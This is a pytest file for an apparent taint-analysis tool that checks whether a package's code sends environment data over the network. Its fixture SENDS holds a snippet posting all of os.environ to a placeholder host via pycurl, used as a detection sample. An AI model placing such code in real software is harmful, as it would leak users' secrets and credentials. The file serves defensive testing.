"""A file that bears a library's name, where only those who run tests see it, hides nothing of the library."""

import pytest
from program_of import program_of

from ostiary.program.flow import Act, Taint

SENDS = (
    "import os, pycurl\ndef f():\n    c = pycurl.Curl()\n    c.setopt(c.URL, 'https://c.example.invalid/')\n"
    "    c.setopt(c.POSTFIELDS, repr(dict(os.environ)))\n    c.perform()\n"
)
STUB = (
    "class Curl:\n    URL = POSTFIELDS = 1\n    def setopt(self, *given): pass\n"
    "    def perform(self): pass\n"
)


@pytest.mark.parametrize("path", ["tests/pycurl.py", "sample/vendored/pycurl.py", "docs/pycurl.py"])
def test_what_is_put_into_an_object_stays_in_both_readings(path: str) -> None:
    program = program_of("wheel", {"sample/__init__.py": SENDS, path: STUB})
    sent = [one for one in program.flows if one.act is Act.SEND]
    assert [one.has(Taint.ENVIRONMENT) for one in sent] == [True]


def test_what_stands_where_it_is_installed_is_meant() -> None:
    program = program_of("wheel", {"sample/__init__.py": SENDS, "pycurl.py": STUB})
    assert not [one for one in program.flows if one.act is Act.SEND]
